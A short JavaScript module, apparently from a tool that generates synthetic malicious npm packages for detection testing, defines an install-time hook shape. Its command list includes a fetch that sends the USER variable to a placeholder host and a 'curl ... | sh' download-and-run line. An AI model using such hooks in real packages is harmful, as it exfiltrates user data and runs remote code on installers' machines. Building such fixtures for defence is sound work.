import { withHook } from '../hook.js';
import { defineShape } from '../shape.js';

const commands = [
  `node -e "process.env.REPROVE_NEVER==='run'&&fetch('http://marker.invalid/'+process.env.USER)"`,
  'node -e "0" || curl -s http://marker.invalid/x | sh',
  'npx --yes plain-marker@1.0.0',
  'bun run index.js',
];

/** A hook with a command that needs no new file. */
export const hookOnly = defineShape({
  id: 'hook-only',
  kind: 'install-time',
  like: '@antv (bun run index.js)',
  apply: (honest, random) => ({
    members: withHook(honest, random, random.pick(commands)!),
    paths: ['package.json'],
  }),
});
